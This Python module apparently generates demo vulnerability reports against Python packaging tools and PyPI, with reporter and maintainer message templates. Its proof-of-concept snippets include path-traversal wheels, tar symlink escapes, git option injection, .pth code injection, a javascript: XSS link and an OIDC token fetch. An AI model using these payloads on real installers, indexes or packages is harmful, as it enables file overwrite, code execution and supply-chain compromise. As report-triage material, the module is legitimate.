"""Provides the raw material of demo reports: vulnerability classes fitting packaging tools, with their text."""

from __future__ import annotations

from dataclasses import dataclass

INSTALLERS = ("pip", "uv", "poetry", "pdm", "conda")
CLIENTS = ("pip", "uv", "poetry", "pdm", "conda", "hatch", "setuptools", "twine")

VERSIONS: dict[str, tuple[str, ...]] = {
    "pip": ("24.0", "24.1.2", "24.2", "24.3.1", "25.0", "25.0.1", "25.1", "25.2"),
    "uv": ("0.5.11", "0.6.3", "0.6.14", "0.7.2", "0.7.19", "0.8.4", "0.8.17", "0.9.1"),
    "poetry": ("1.8.3", "1.8.5", "2.0.1", "2.1.1", "2.1.3", "2.2.0"),
    "conda": ("24.7.1", "24.11.3", "25.1.1", "25.3.0", "25.5.1"),
    "pdm": ("2.19.3", "2.20.1", "2.22.3", "2.24.1", "2.25.4"),
    "hatch": ("1.12.0", "1.13.0", "1.14.1"),
    "setuptools": ("70.3.0", "72.1.0", "75.1.0", "75.8.0", "78.1.0", "80.9.0"),
    "twine": ("5.1.1", "6.0.1", "6.1.0"),
    "pypi": ("production", "production (warehouse main)"),
}


@dataclass(frozen=True)
class VulnClass:
    """One kind of report: where it applies, a title, and the text blocks a body is made of."""

    key: str
    projects: tuple[str, ...]
    titles: tuple[str, ...]
    summary: str
    steps: tuple[str, ...]
    poc: str
    impact: str
    cwe: str
    vectors: tuple[str, ...]
    attachment: str | None = None  # "poc.py", "wheel", "sdist" or "patch": the kind it sometimes carries


VULN_CLASSES: tuple[VulnClass, ...] = (
    VulnClass(
        key="wheel-traversal",
        projects=("pip", "uv", "poetry", "pdm", "conda"),
        titles=(
            "Path traversal in wheel extraction writes outside site-packages",
            "Wheel installer follows '../' entries in archive member names",
        ),
        summary=(
            "When {tool} installs a wheel it joins each archive member name onto the target directory. "
            "Member names containing '../' segments (or an absolute path on Windows) are not rejected, so a "
            "crafted wheel can write files anywhere the installing user can write."
        ),
        steps=(
            "Build the attached wheel (or run build_evil_wheel.py).",
            "Create a fresh virtual environment.",
            "Run `{command} ./evil-0.1-py3-none-any.whl`.",
            "Observe that ~/.bashrc.d/evil.sh has been created.",
        ),
        poc=(
            "import zipfile\n"
            "with zipfile.ZipFile('evil-0.1-py3-none-any.whl', 'w') as z:\n"
            "    z.writestr('evil/__init__.py', '')\n"
            "    z.writestr('../../../../.bashrc.d/evil.sh', 'echo owned\\n')\n"
            "    z.writestr('evil-0.1.dist-info/RECORD', '')\n"
        ),
        impact=(
            "Arbitrary file write as the installing user at install time, before any code from the "
            "package is imported. Installing from a lock file with hashes does not help when the "
            "malicious artifact is the one that was locked."
        ),
        cwe="CWE-22",
        vectors=("CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:N/I:H/A:N",),
        attachment="wheel",
    ),
    VulnClass(
        key="tar-symlink",
        projects=("pip", "uv", "poetry", "pdm", "setuptools", "conda"),
        titles=(
            "tarfile symlink escape when unpacking sdists",
            "Symlink member in source distribution lets later members escape the build directory",
        ),
        summary=(
            "{tool} unpacks source distributions with tarfile but does not use the 'data' extraction filter "
            "on the Python versions it supports. A member that is a symlink pointing outside the build "
            "directory, followed by a regular member written through that symlink, escapes the directory."
        ),
        steps=(
            "Create an sdist whose first member is `pkg-1.0/link -> /tmp` and whose second is `pkg-1.0/link/pwned`.",
            "Run `{command} ./pkg-1.0.tar.gz`.",
            "Check that /tmp/pwned exists even though the build failed.",
        ),
        poc=(
            "import io, tarfile\n"
            "with tarfile.open('pkg-1.0.tar.gz', 'w:gz') as tar:\n"
            "    link = tarfile.TarInfo('pkg-1.0/link'); link.type = tarfile.SYMTYPE; link.linkname = '/tmp'\n"
            "    tar.addfile(link)\n"
            "    data = b'pwned\\n'; info = tarfile.TarInfo('pkg-1.0/link/pwned'); info.size = len(data)\n"
            "    tar.addfile(info, io.BytesIO(data))\n"
        ),
        impact="Arbitrary file write outside the temporary build directory when an sdist is unpacked.",
        cwe="CWE-59",
        vectors=(
            "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:N/I:H/A:N",
            "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:P/VC:N/VI:H/VA:N/SC:N/SI:N/SA:N",
        ),
        attachment="sdist",
    ),
    VulnClass(
        key="dependency-confusion",
        projects=("pip", "uv", "poetry", "pdm", "conda"),
        titles=(
            "Dependency confusion via extra-index-url picks the public package",
            "Index priority lets a public upload shadow an internal package",
        ),
        summary=(
            "With an internal index configured as an extra index, {tool} merges candidates from all indexes "
            "and picks the highest version. Anyone can register the internal name on the public index with a "
            "higher version number and have it installed instead of the internal package."
        ),
        steps=(
            "Configure an internal index with `acme-utils==1.2.0` as an extra index.",
            "Upload `acme-utils==99.0.0` to the public index.",
            "Run `{command} acme-utils`.",
            "The public 99.0.0 is installed.",
        ),
        poc="{command} --extra-index-url https://pypi.internal.example/simple acme-utils\n",
        impact=(
            "Code execution on developer machines and CI runners of any organisation that relies on the "
            "documented extra-index configuration."
        ),
        cwe="CWE-427",
        vectors=("CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:C/C:H/I:H/A:H",),
    ),
    VulnClass(
        key="hash-bypass",
        projects=("pip", "uv", "poetry", "pdm"),
        titles=(
            "Hash-checking mode bypass for dependencies pulled in by URL",
            "Lock file hashes are not enforced for direct URL requirements",
        ),
        summary=(
            "In hash-checking mode {tool} is supposed to refuse any artifact whose hash is not pinned. For "
            "requirements given as a direct URL with a `#sha256=` fragment, the fragment is trusted instead of "
            "the pinned hash, so an attacker who can change the URL can also change the expected hash."
        ),
        steps=(
            "Write a requirements file with `--require-hashes` and one URL requirement.",
            "Replace the artifact behind the URL and update the fragment.",
            "Run `{command} -r requirements.txt`; it installs without complaint.",
        ),
        poc="pkg @ https://files.example/pkg-1.0-py3-none-any.whl#sha256=0000...\n",
        impact="Integrity guarantees of hash pinning silently do not apply to URL requirements.",
        cwe="CWE-354",
        vectors=("CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:U/C:H/I:H/A:H",),
        attachment="patch",
    ),
    VulnClass(
        key="credential-leak",
        projects=("pip", "uv", "poetry", "pdm", "twine", "conda", "hatch"),
        titles=(
            "Index credentials written to logs in verbose mode",
            "Password from netrc / keyring leaks into error messages",
            "Credentials embedded in index URL are printed on redirect",
        ),
        summary=(
            "When a request to a private index fails or is redirected, {tool} prints the full URL including "
            "the userinfo part, or includes the credential taken from netrc or the keyring in the exception "
            "text. CI systems keep these logs and often make them public for open-source projects."
        ),
        steps=(
            "Configure a private index with credentials in the URL or in ~/.netrc.",
            "Make the index answer 302 to another host.",
            "Run `{command} -v private-pkg` and read the output.",
        ),
        poc="{command} -v --index-url https://user:s3cr3t-token@pkgs.internal.example/simple private-pkg\n",
        impact="Disclosure of index or upload credentials to anyone who can read build logs.",
        cwe="CWE-532",
        vectors=(
            "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N",
            "CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:N",
        ),
    ),
    VulnClass(
        key="cache-toctou",
        projects=("pip", "uv", "poetry", "pdm", "conda"),
        titles=(
            "TOCTOU race in shared cache directory",
            "Cache entries in a world-writable directory can be swapped between check and use",
        ),
        summary=(
            "{tool} verifies a cached artifact and then opens it again by path to unpack it. When the cache "
            "lives in a directory another local user can write to (shared CI runners, a misconfigured "
            "XDG_CACHE_HOME), the file can be replaced between the check and the use."
        ),
        steps=(
            "Point the cache at /tmp/shared-cache as user A.",
            "As user B, run the attached race script which watches for the verified file.",
            "As user A, run `{command} requests`; the swapped artifact is installed.",
        ),
        poc=(
            "import os, time\n"
            "while True:\n"
            "    for root, _, files in os.walk('/tmp/shared-cache'):\n"
            "        for name in files:\n"
            "            if name.endswith('.whl'):\n"
            "                os.replace('/tmp/evil.whl', os.path.join(root, name))\n"
            "    time.sleep(0.001)\n"
        ),
        impact="Local privilege escalation between users that share a cache directory.",
        cwe="CWE-367",
        vectors=("CVSS:3.1/AV:L/AC:H/PR:L/UI:R/S:U/C:H/I:H/A:H",),
        attachment="poc.py",
    ),
    VulnClass(
        key="build-hook",
        projects=("setuptools", "hatch", "pip", "uv", "poetry", "pdm"),
        titles=(
            "Code execution via build backend hooks during metadata preparation",
            "Arbitrary code runs when resolving an sdist, even with --dry-run",
        ),
        summary=(
            "Resolving a source distribution makes {tool} call the build backend's "
            "prepare_metadata_for_build_wheel hook, which runs code from the package. This happens even for "
            "commands that users expect to be read-only, such as a dry run or a lock."
        ),
        steps=(
            "Publish an sdist whose build backend writes a file in its metadata hook.",
            "Run `{command} --dry-run evilpkg`.",
            "Observe the file written by the hook.",
        ),
        poc=(
            "# backend.py\n"
            "def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):\n"
            "    open('/tmp/ran-during-dry-run', 'w').write('hello')\n"
            "    raise SystemExit(0)\n"
        ),
        impact=(
            "Code execution for anyone who resolves the package. (I realise building packages runs code by "
            "design; the surprise here is the dry-run / lock path.)"
        ),
        cwe="CWE-94",
        vectors=("CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:H/A:H",),
        attachment="poc.py",
    ),
    VulnClass(
        key="lockfile-injection",
        projects=("uv", "poetry", "pdm", "conda"),
        titles=(
            "Lock file injection through crafted package metadata",
            "Newline in dependency marker lets a package add entries to the lock file",
        ),
        summary=(
            "Package metadata values are written into the lock file without escaping. A dependency whose "
            "marker or description contains a newline and TOML syntax can add extra sources or override the "
            "hashes of other packages when {tool} writes the lock."
        ),
        steps=(
            "Publish `innocent==1.0` whose Requires-Dist contains an embedded newline and a [[package]] table.",
            "Run `{command} lock` in a project that depends on it.",
            "Open the lock file: an extra package entry with an attacker URL is present.",
        ),
        poc='Requires-Dist: foo ; python_version > "3"\\n[[package]]\\nname = "requests"\\nsource = "https://evil.example/"\n',
        impact="Supply-chain compromise of every project that relocks while depending on the package.",
        cwe="CWE-74",
        vectors=("CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:C/C:H/I:H/A:N",),
        attachment="patch",
    ),
    VulnClass(
        key="resolver-downgrade",
        projects=("pip", "uv", "poetry", "pdm", "conda"),
        titles=(
            "Resolver downgrade attack via yanked or crafted metadata",
            "An attacker-controlled dependency can force a vulnerable version of another package",
        ),
        summary=(
            "A package can declare an upper bound on a popular dependency, and {tool}'s resolver silently "
            "backtracks to an old, known-vulnerable version instead of failing or warning. Yanked releases "
            "are also picked when they are the only match."
        ),
        steps=(
            "Publish `helper==2.0` depending on `urllib3<1.24`.",
            "Run `{command} helper requests`.",
            "urllib3 1.23 is installed with no warning.",
        ),
        poc="{command} helper requests && python -c 'import urllib3; print(urllib3.__version__)'\n",
        impact="Reintroduces fixed vulnerabilities into environments without the user noticing.",
        cwe="CWE-757",
        vectors=("CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:U/C:L/I:L/A:N",),
    ),
    VulnClass(
        key="zip-slip",
        projects=("pip", "uv", "setuptools", "hatch", "conda"),
        titles=(
            "Zip-slip in archive unpacking",
            "Absolute paths in zip members are honoured on extraction",
        ),
        summary=(
            "The helper {tool} uses to unpack zip archives checks for '../' but not for absolute member "
            "names or drive letters, so a zip with a member named '/etc/cron.d/job' (or 'C:\\\\Users\\\\...') "
            "is written there."
        ),
        steps=(
            "Create a zip containing a member with an absolute name.",
            "Run `{command} ./pkg.zip`.",
            "The file appears at the absolute path.",
        ),
        poc=(
            "import zipfile\nwith zipfile.ZipFile('pkg.zip', 'w') as z:\n    z.writestr('/tmp/zip-slip-proof', 'x')\n"
        ),
        impact="Arbitrary file write as the installing user.",
        cwe="CWE-22",
        vectors=("CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:N/I:H/A:N",),
        attachment="wheel",
    ),
    VulnClass(
        key="pep658-mismatch",
        projects=("pip", "uv", "pypi"),
        titles=(
            "PEP 658 metadata can differ from the metadata inside the wheel",
            "Resolver trusts .metadata file that disagrees with the artifact",
        ),
        summary=(
            "The metadata file served next to a distribution (PEP 658 / PEP 714) is used for resolution, "
            "but nothing checks that it matches the METADATA inside the artifact that ends up installed. "
            "Dependencies declared in the wheel can therefore be hidden from reviewers and tools."
        ),
        steps=(
            "Serve a wheel whose embedded METADATA requires `evil` but whose .metadata file does not.",
            "Run `{command} pkg` against that index.",
            "`evil` is not installed, but the wheel's entry points import it lazily from a vendored copy.",
        ),
        poc="curl -s https://index.example/simple/pkg/ | grep data-dist-info-metadata\n",
        impact="Dependency hiding and inconsistent SBOMs; auditing tools see a different graph.",
        cwe="CWE-345",
        vectors=("CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:U/C:N/I:L/A:N",),
    ),
    VulnClass(
        key="tls-env",
        projects=("pip", "uv", "poetry", "pdm", "twine", "conda"),
        titles=(
            "TLS verification silently disabled by an environment variable",
            "Setting an unrelated env var turns off certificate checks",
        ),
        summary=(
            "{tool} reads an environment variable inherited from a third-party library that disables TLS "
            "certificate verification for every index, without printing a warning. The variable is commonly "
            "set in corporate images for unrelated tools."
        ),
        steps=(
            "export PYTHONHTTPSVERIFY=0 (or CURL_CA_BUNDLE= with an empty value).",
            "Run `{command} requests` through a MITM proxy with a self-signed certificate.",
            "The install succeeds with no warning.",
        ),
        poc="CURL_CA_BUNDLE= {command} requests  # through mitmproxy, no warning shown\n",
        impact="Network attackers can substitute any package for users whose environment sets the variable.",
        cwe="CWE-295",
        vectors=("CVSS:3.1/AV:A/AC:H/PR:N/UI:N/S:U/C:H/I:H/A:N",),
    ),
    VulnClass(
        key="version-redos",
        projects=("pip", "poetry", "pdm", "setuptools", "hatch", "pypi"),
        titles=(
            "ReDoS in version string parsing",
            "Catastrophic backtracking when parsing a long local version label",
        ),
        summary=(
            "The regular expression {tool} uses to parse version strings (a copy of an older 'packaging' "
            "pattern) backtracks exponentially on long local version labels made of alternating separators."
        ),
        steps=(
            "Run the attached script: parsing a 60-character crafted version takes over 30 s.",
            "Serve that version on an index and run `{command} pkg`: the resolver hangs.",
        ),
        poc=(
            "import time\n"
            "from packaging.version import parse\n"
            "s = '1.0+' + '0.' * 30 + '!'\n"
            "t = time.time(); parse(s); print(time.time() - t)\n"
        ),
        impact="Denial of service of installers and of any service that parses uploaded versions.",
        cwe="CWE-1333",
        vectors=("CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:L",),
        attachment="poc.py",
    ),
    VulnClass(
        key="record-symlink",
        projects=("pip", "uv", "poetry", "pdm"),
        titles=(
            "Symlink listed in RECORD makes uninstall delete files outside the environment",
            "Uninstall follows paths from RECORD without checking they stay in site-packages",
        ),
        summary=(
            "The RECORD file of an installed distribution is trusted on uninstall. Entries with '../' or "
            "absolute paths, or a directory replaced by a symlink after install, make {tool} remove files "
            "outside the environment."
        ),
        steps=(
            "Install a wheel whose RECORD lists `../../../../home/user/.ssh/authorized_keys`.",
            "Uninstall the package with {tool}.",
            "authorized_keys is gone.",
        ),
        poc="pkg-1.0.dist-info/RECORD:\n../../../../home/user/.ssh/authorized_keys,,\n",
        impact="Arbitrary file deletion as the user running the uninstall.",
        cwe="CWE-59",
        vectors=("CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:N/I:L/A:H",),
    ),
    VulnClass(
        key="vcs-injection",
        projects=("pip", "uv", "poetry", "pdm"),
        titles=(
            "Command injection through VCS URL options",
            "git URL with a leading dash is passed to git as an option",
        ),
        summary=(
            "VCS requirement URLs are split into a repository and a revision, and the revision is passed to "
            "git without a `--` separator. A revision such as `--upload-pack=touch /tmp/x` becomes a git "
            "option, which runs an arbitrary command."
        ),
        steps=(
            "Add `pkg @ git+https://example.org/repo.git@--upload-pack=id>/tmp/pwned` to requirements.",
            "Run `{command} -r requirements.txt`.",
            "A file named pwned appears in /tmp.",
        ),
        poc="{command} 'pkg @ git+https://example.org/r.git@--upload-pack=touch${IFS}/tmp/pwned'\n",
        impact="Command execution from a requirements file that users may consider data.",
        cwe="CWE-88",
        vectors=("CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:H/A:H",),
        attachment="patch",
    ),
    VulnClass(
        key="token-scope",
        projects=("pypi", "twine", "hatch", "uv", "pdm"),
        titles=(
            "Project-scoped upload token accepted for another project",
            "Upload token scope not enforced for a renamed project",
        ),
        summary=(
            "An API token scoped to one project can upload to a second project in some cases: after the "
            "scoped project is renamed, or when the normalised names collide ('foo_bar' vs 'foo-bar'). "
            "{tool} happily sends the upload and the index accepts it."
        ),
        steps=(
            "Create a token scoped to project `foo-bar`.",
            "Rename the project, then register `foo_bar` under another account.",
            "Upload to `foo_bar` with the old token.",
        ),
        poc="twine upload --repository testpypi -u __token__ -p pypi-AgENd... dist/foo_bar-1.0.tar.gz\n",
        impact="Account takeover-style package compromise without the victim's credentials.",
        cwe="CWE-863",
        vectors=("CVSS:3.1/AV:N/AC:H/PR:L/UI:N/S:C/C:N/I:H/A:N",),
    ),
    VulnClass(
        key="trusted-publishing",
        projects=("pypi", "uv", "twine"),
        titles=(
            "Trusted publishing accepts tokens from forked repositories' workflows",
            "Trusted publisher configuration matches on workflow filename only",
        ),
        summary=(
            "A trusted publisher configured without an environment matches any workflow with the same "
            "filename in the repository, including ones triggered by pull_request_target from forks. "
            "Documentation for {tool} suggests this configuration."
        ),
        steps=(
            "Configure a trusted publisher for owner/repo and release.yml without an environment.",
            "From a fork, open a PR that modifies a job triggered by pull_request_target.",
            "Exchange the OIDC token and upload a release.",
        ),
        poc=(
            'curl -H "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" '
            '"$ACTIONS_ID_TOKEN_REQUEST_URL&audience=pypi"\n'
        ),
        impact="Anyone who can open a pull request can publish releases.",
        cwe="CWE-284",
        vectors=("CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:C/C:H/I:H/A:N",),
    ),
    VulnClass(
        key="description-xss",
        projects=("pypi",),
        titles=(
            "Stored XSS through project description rendering",
            "Markdown description renderer allows javascript: links",
        ),
        summary=(
            "The long description of a release is rendered with a sanitiser that lets `javascript:` URLs "
            "through in reference-style links. Any visitor of the project page who clicks the link runs "
            "script in the context of the index's origin."
        ),
        steps=(
            "Upload a release with description content type text/markdown.",
            "Use a reference-style link whose target is javascript:fetch(...).",
            "Open the project page and click the link.",
        ),
        poc="[click me][x]\n\n[x]: javascript:fetch('/manage/account/').then(r=>r.text()).then(alert)\n",
        impact="Session actions as any logged-in maintainer who clicks, e.g. creating API tokens.",
        cwe="CWE-79",
        vectors=("CVSS:3.1/AV:N/AC:L/PR:L/UI:R/S:C/C:L/I:L/A:N",),
    ),
    VulnClass(
        key="pth-injection",
        projects=("setuptools", "hatch", "pip", "uv"),
        titles=(
            "Editable install writes an attacker-controlled .pth file",
            "Crafted project name injects code into the editable-install .pth",
        ),
        summary=(
            "For editable installs {tool} writes a .pth file whose content is derived from the project name "
            "and path. A name containing a newline followed by `import os; ...` is executed at every "
            "interpreter start-up in that environment."
        ),
        steps=(
            "Create a project whose name (after normalisation) still contains a newline.",
            "Run `{command} -e .`.",
            "Start Python: the injected line runs.",
        ),
        poc="__editable__.evil-1.0.pth:\n/path/to/src\nimport os; os.system('id > /tmp/pth-ran')\n",
        impact="Persistent code execution in the environment beyond the install step.",
        cwe="CWE-94",
        vectors=("CVSS:3.1/AV:L/AC:L/PR:N/UI:R/S:U/C:H/I:H/A:H",),
    ),
)

COMMANDS: dict[str, str] = {
    "pip": "pip install",
    "uv": "uv pip install",
    "poetry": "poetry add",
    "pdm": "pdm add",
    "conda": "conda install",
    "hatch": "hatch run pip install",
    "setuptools": "pip install --no-build-isolation",
    "twine": "twine upload",
    "pypi": "pip install",
}

GREETINGS = ("Hello", "Hi", "Dear security team", "Hello {project} security team", "Hi all", "Good morning")
OPENINGS = (
    "I would like to report a security issue in {tool} that I found while auditing installer code paths.",
    "While working on a supply-chain research project I found what I believe is a vulnerability in {tool}.",
    "Please find below a report about {tool}. I have not shared it with anyone else.",
    "I think I found a security bug in {tool}; details and a proof of concept follow.",
    "Our red team hit this during an internal assessment and we would like to disclose it responsibly.",
    "Reporting this privately per your SECURITY.md.",
)
CLOSINGS = (
    "I am happy to coordinate disclosure; I plan to publish in 90 days unless we agree otherwise.",
    "Please let me know whether you need more information. I would appreciate credit in the advisory.",
    "I have not requested a CVE. Let me know if you would like me to test a fix.",
    "This was found with a fuzzer I am building; I can share more crashes if useful.",
    "No rush, but I would like to present this at a conference in about four months.",
)
SIGNOFFS = ("Thanks,", "Best regards,", "Cheers,", "Kind regards,", "Thank you,", "--")

REPORTER_FOLLOW_UPS = (
    "Quick follow-up: I confirmed the issue also reproduces on {version}, and on both Linux and macOS.",
    "Any update on this? I have not heard back in a while and want to make sure the report arrived.",
    "I attached an updated PoC that no longer needs network access.",
    "Would you like me to request a CVE, or will you assign one as a CNA?",
    "I noticed a commit on main that looks related. Is that the fix? I can test it.",
    "Small correction to my report: the first affected version is earlier than I said.",
)
MAINTAINER_REPLIES = (
    "Thanks for the report. We reproduced it on main and are working on a fix in a private fork. "
    "We are aiming for a release within two weeks.",
    "Thank you. Could you share the exact command line and the output with -v? We could not reproduce "
    "it with the default configuration.",
    "We looked into this. Under our security policy, building or installing a package runs its code by "
    "design, so we consider this hardening rather than a vulnerability. We are still happy to take a patch.",
    "Confirmed. We would like to credit you in the advisory; how would you like to be named?",
    "This is a duplicate of an issue reported last month; we will add you to the credits as well.",
    "Fix is ready for review in the private fork. Would you be willing to test it before release?",
)
